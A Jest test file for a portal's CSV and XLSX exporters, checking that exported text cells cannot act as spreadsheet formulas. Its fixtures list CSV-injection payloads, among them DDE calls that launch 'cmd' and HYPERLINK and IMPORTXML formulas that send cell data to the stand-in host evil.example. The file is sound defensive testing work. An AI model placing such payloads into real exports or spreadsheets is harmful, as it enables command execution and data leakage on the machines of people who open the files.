/** @jest-environment node */
import { describe, expect, it } from '@jest/globals';
import { neutralText } from '@portal/contracts';
import { readXlsx } from 'hucre/xlsx';
import Papa from 'papaparse';
import type { ExportTable } from './export-columns';
import { toCsv } from './to-csv';
import { toXlsx } from './to-xlsx';

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const payloads = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?leak="&A1;"Pulse")',
  'SUM(1+1)*cmd|" /C calc"!A0',
  'IMPORTXML("http://evil.example";"//a")',
  'DDE("cmd";"/C calc";"!A0")',
];
/** Spreadsheets skip these before a formula sign. */
const before = ['', ' ', '\t', '\r', '\n', '\r\n', '\0', '\ufeff', '\u200b', '\u00a0', ' \t '];
const hostile = signs.flatMap((sign) =>
  payloads.flatMap((payload) => before.map((gap) => gap + sign + payload)),
);
const cutOff = ['\tplain', '\rplain', '\nplain', '\0plain'];
const harmless = [
  'Menú del día',
  'Cartel A3 = A4',
  '2x1 en sobremesa',
  'a@b.example',
  'Año 2026-11',
  "L'estiu",
  '100 %',
  '',
];

interface Row {
  readonly name: string;
  readonly count: number;
}
const tableOf = (names: readonly string[]): ExportTable<Row> => ({
  name: 'Recursos',
  columns: [
    { header: 'Nombre', value: ({ name }) => name },
    { header: 'Descargas', value: ({ count }) => count },
  ],
  rows: names.map((name, count) => ({ name, count: -count })),
});
const csvRows = async (names: readonly string[]) => {
  const text = (await toCsv(tableOf(names)).text()).replace(/^\ufeff/, '');
  return Papa.parse<string[]>(text, { delimiter: ';' }).data.slice(1);
};

describe('an exported text', () => {
  it(`[S13] is never run: ${hostile.length + cutOff.length} hostile cells in CSV, none begins as a formula`, async () => {
    const cells = [...hostile, ...cutOff];
    expect(cells.length).toBeGreaterThan(500);
    const rows = await csvRows(cells);
    expect(rows).toHaveLength(cells.length);
    expect(rows.filter(([name]) => !name?.startsWith("'"))).toEqual([]);
    expect(rows.map(([name]) => name?.slice(1))).toEqual(cells);
  });

  it('[S13] is unchanged when it is harmless', () => {
    expect(harmless.map(neutralText)).toEqual(harmless);
  });

  it('[S13] cannot break out of its cell with quotes, separators or lines', async () => {
    const name = 'a";=1+1;"b\r\n"=2';
    expect(await csvRows([name])).toEqual([[name, '0']]);
  });

  it('[S13] is a cell of the type text in a spreadsheet, letter by letter, and no cell is a formula', async () => {
    const table = tableOf([...hostile, ...cutOff, ...harmless]);
    const bytes = new Uint8Array(await (await toXlsx(table)).arrayBuffer());
    const [sheet] = (await readXlsx(bytes, { readStyles: false })).sheets;
    const names = sheet?.rows.slice(1).map(([name]) => name ?? '');
    // XML has one line break.
    const asXml = (text: string) => text.replace(/\r\n?/g, '\n');
    expect(names?.map((name) => asXml(String(name)))).toEqual(table.rows.map(({ name }) => asXml(name)));
    const formulas = [...(sheet?.cells?.values() ?? [])].filter(({ formula }) => formula !== undefined);
    expect(formulas).toEqual([]);
  });
});

it('an exported number stays a number, also below zero', async () => {
  expect(await csvRows(['a', 'b'])).toEqual([
    ['a', '0'],
    ['b', '-1'],
  ]);
});

it('[U10] a large table of 10,000 rows is written within five seconds in both formats', async () => {
  const table = tableOf(Array.from({ length: 10_000 }, (_, index) => `=Recurso ${index}`));
  const started = performance.now();
  const csv = toCsv(table);
  const xlsx = await toXlsx(table);
  expect(performance.now() - started).toBeLessThan(5_000);
  expect(csv.size).toBeGreaterThan(100_000);
  expect(xlsx.size).toBeGreaterThan(50_000);
});
